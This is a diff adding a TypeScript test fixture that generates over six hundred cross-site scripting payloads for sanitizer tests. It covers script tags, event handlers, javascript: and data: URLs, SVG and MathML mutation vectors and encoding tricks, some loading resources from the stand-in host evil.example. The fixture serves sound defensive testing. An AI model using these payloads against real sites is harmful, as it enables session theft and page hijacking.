@@ -1,0 +1,126 @@
+/** Strings that try to bring a script into a page, for tests of every field that carries HTML: attacks times the places they hide in. */
+
+const tu = 'window.__xss=1'
+const tab = '\t'
+const nul = '\u0000'
+
+const skripte = [
+  `<script>${tu}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${tu}</scr</script>ipt>`,
+  `<script${nul}>${tu}</script>`,
+  `<script/x>${tu}</script/x>`,
+  `<script>/*<b>*/${tu}</script`,
+  `<<script>${tu}//<</script>`,
+  `<script type="module">${tu}</script>`,
+  `</title><script>${tu}</script>`,
+  `</textarea><script>${tu}</script>`,
+  `--><script>${tu}</script><!--`,
+  `]]><script>${tu}</script>`,
+  `"><script>${tu}</script>`,
+  `'><script>${tu}</script>`,
+]
+
+const behandler = [
+  `<img src=x onerror=${tu}>`,
+  `<img src=x onerror="${tu}"//>`,
+  `<IMG SRC=x OnErRoR=${tu}>`,
+  `<img/src=x/onerror=${tu}>`,
+  `<img src=x${tab}onerror=${tu}>`,
+  `<img src=\`x\`onerror=${tu}>`,
+  `<img src="x" onerror="&#119;indow.__xss=1">`,
+  `<img srcset="x 1x" onerror=${tu}>`,
+  `<b onmouseover=${tu}>b</b>`,
+  `<b/onpointerenter=${tu}>b</b>`,
+  `<strong autofocus tabindex=0 onfocus=${tu}>x</strong>`,
+  `<span onclick=${tu} id=x>x</span>`,
+  `<span style="animation:a" onanimationstart=${tu}>x</span>`,
+  `<em style="background:url(javascript:${tu})">x</em>`,
+  `<a href=x onclick=${tu}>x</a>`,
+  `<a onfocus=${tu} href="" autofocus>x</a>`,
+  `<body onload=${tu}>`,
+  `<body onpageshow=${tu}>`,
+  `<details open ontoggle=${tu}>`,
+  `<video><source onerror=${tu}></video>`,
+  `<audio src=x onerror=${tu}>`,
+  `<input autofocus onfocus=${tu}>`,
+  `<select autofocus onfocus=${tu}>`,
+  `<marquee onstart=${tu}>`,
+  `<div popover id=y onbeforetoggle=${tu}>x</div><button popovertarget=y>y</button>`,
+]
+
+const adressen = [
+  `<a href="javascript:${tu}">x</a>`,
+  `<a href="JaVaScRiPt:${tu}">x</a>`,
+  `<a href=" javascript:${tu}">x</a>`,
+  `<a href="java${tab}script:${tu}">x</a>`,
+  `<a href="java\nscript:${tu}">x</a>`,
+  `<a href="java${nul}script:${tu}">x</a>`,
+  `<a href="&#106;avascript:${tu}">x</a>`,
+  `<a href="&#x6A;avascript&colon;${tu}">x</a>`,
+  `<a href="javascript&NewLine;:${tu}">x</a>`,
+  `<a href="\u0001javascript:${tu}">x</a>`,
+  `<a href="data:text/html,<script>${tu}</script>">x</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
+  `<a href="vbscript:x">x</a>`,
+  `<a href="blob:http://x/y">x</a>`,
+  `<a href="//evil.example">x</a>`,
+  String.raw`<a href="/\evil.example">x</a>`,
+  `<a href="x:y" xlink:href="javascript:${tu}">x</a>`,
+  `<a href="https://example.org" target=_top download ping=//evil.example>x</a>`,
+  `<iframe src="javascript:${tu}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  `<object data="javascript:${tu}"></object>`,
+  `<embed src="javascript:${tu}">`,
+  `<form action="javascript:${tu}"><button>x</button></form>`,
+  `<button formaction="javascript:${tu}" form=f>x</button>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${tu}">`,
+  `<link rel=stylesheet href="//evil.example/x.css">`,
+]
+
+const fremdes = [
+  `<svg onload=${tu}>`,
+  `<svg><script>${tu}</script></svg>`,
+  `<svg><a xlink:href="javascript:${tu}"><text y=20>x</text></a></svg>`,
+  `<svg><animate onbegin=${tu} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to="javascript:${tu}">`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${tu}>#x">`,
+  `<svg><style><img src=x onerror=${tu}></style></svg>`,
+  `<svg></p><style><g title="</style><img src=x onerror=${tu}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${tu}&gt;">`,
+  `<math><mi//xlink:href="data:x,<script>${tu}</script>">`,
+  `<math href="javascript:${tu}">x</math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${tu}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${tu}>">`,
+  `<template><script>${tu}</script></template>`,
+  `<xmp><p title="</xmp><img src=x onerror=${tu}>"></xmp>`,
+  `<plaintext><img src=x onerror=${tu}>`,
+  `<style>@import '//evil.example/x.css';</style>`,
+  `<style>*{background:url(//evil.example/pixel)}</style>`,
+  `<listing>&lt;img src=x onerror=${tu}&gt;</listing>`,
+  `<table><td background="javascript:${tu}">x`,
+  `<img src="//evil.example/pixel.png">`,
+  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${tu}</x:script>`,
+  `<!--[if gte IE 4]><script>${tu}</script><![endif]-->`,
+  `<![CDATA[<script>${tu}</script>]]>`,
+  `%3Cscript%3E${tu}%3C/script%3E`,
+  `&lt;script&gt;${tu}&lt;/script&gt;`,
+  String.raw`\u003cimg src=x onerror=${tu}\u003e`,
+  `＜script＞${tu}＜/script＞`,
+]
+
+const verstecke: readonly ((angriff: string) => string)[] = [
+  (angriff) => `Text ${angriff}`,
+  (angriff) => `${angriff} Text`,
+  (angriff) => `<b>Text ${angriff}</b>`,
+  (angriff) => `<a href="https://example.org">Text ${angriff}</a>`,
+  (angriff) => `Text <span><i>${angriff}</i>`,
+  (angriff) => `Text <b title='${angriff}'>x</b>`,
+  (angriff) => `Text <em ${angriff}>x</em>`,
+]
+
+/** More than six hundred; each has a word of plain text, so that something is left to read. */
+export const angriffe: readonly string[] = [...skripte, ...behandler, ...adressen, ...fremdes].flatMap((angriff) =>
+  verstecke.map((verbirg) => verbirg(angriff)),
+)
